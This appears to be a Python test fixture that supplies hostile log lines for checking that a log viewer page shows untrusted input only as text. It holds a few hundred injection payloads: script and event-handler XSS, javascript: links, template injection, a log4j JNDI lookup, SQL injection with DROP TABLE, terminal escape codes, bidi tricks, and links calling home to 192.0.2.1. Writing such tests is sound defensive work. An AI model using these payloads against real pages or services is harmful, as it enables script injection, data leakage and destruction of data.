"""Log lines of somebody who wants the page to do something, and what a page may make of them: text, nothing else."""

from __future__ import annotations

LONG = "A" * 30_000
HOSTILE = [
    "<script>window.pwned = 1</script>",
    '<img src=x onerror="window.pwned = 2">',
    "<svg/onload=window.pwned=3>",
    '"><iframe src="javascript:parent.pwned=4"></iframe>',
    "<a href='javascript:window.pwned=5'>click</a>",
    "</script><script>window.pwned = 6</script><!--",
    "`${window.pwned = 7}` {{ window.pwned = 8 }} {{constructor.constructor('window.pwned=9')()}}",
    "[click me](javascript:window.pwned=10) ![x](http://192.0.2.1/leak.png) <http://192.0.2.1>",
    "<style>*{display:none}</style><link rel=stylesheet href=//192.0.2.1/x.css>",
    "<meta http-equiv=refresh content=0;url=http://192.0.2.1/>",
    "&lt;img src=x onerror=window.pwned=11&gt; &#60;script&#62;window.pwned=12&#60;/script&#62;",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2Jcleared \x9b31m",
    "right \u202eot tfel\u202c and \u2066isolated\u2069 \u200bzero\u200dwidth\ufeff \u00adsoft",
    "tags \U000e0041\U000e0042 fillers \u3164\uffa0\u2800 selector \ufe0f",
    "carriage\rreturn\nsecond line\n\n\n\tthird with a tab\x00nul",
    LONG,
    "word " * 3_000,
    "Z\u0351\u034d\u0324a\u0310\u031el\u0300\u0334g\u0337\u0321o\u0334\u0353 " + "\u0e49" * 500,
    "עברית and العربية in one line, then 日本語 and 🏴\u200d☠️",
    "${jndi:ldap://192.0.2.1/a} %s%s%n {0.__class__} ' OR 1=1; DROP TABLE log_events; --",
]  # fmt: skip
NODE = "<b>bold</b>\"'node"
SERVICE = "<i>svc</i>{{7*7}}"


def _payloads() -> list[str]:
    """180 ways of markup that would run code, and 20 of Markdown, links and styles that would call home."""
    tags = (
        "img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "iframe src=x", "object data=x",
        "input autofocus", "marquee", "form", "select autofocus", "a href=# autofocus", "button autofocus", "style",
    )  # fmt: skip
    events = ("onerror", "onload", "onfocus", "ontoggle")
    shapes = (
        "<{tag} {event}=window.pwned=1>",
        '"\'><{tag}/{event}="window.pwned=1"/>',
        "<{tag}\t{event}\n=`window.pwned=1`",
    )
    markup = [shape.format(tag=tag, event=event) for shape in shapes for tag in tags for event in events]
    schemes = (
        "javascript:window.pwned=1",
        "data:text/html,<script>parent.pwned=1</script>",
        "vbscript:pwned",
        "//192.0.2.1/x",
    )
    links = ("[x]({})", "![x]({})", "<a href='{}'>x</a>", "<link rel=stylesheet href='{}'>", "<base href='{}'>")
    return markup + [link.format(scheme) for link in links for scheme in schemes]


PAYLOADS = _payloads()
CORPUS = "corpus"
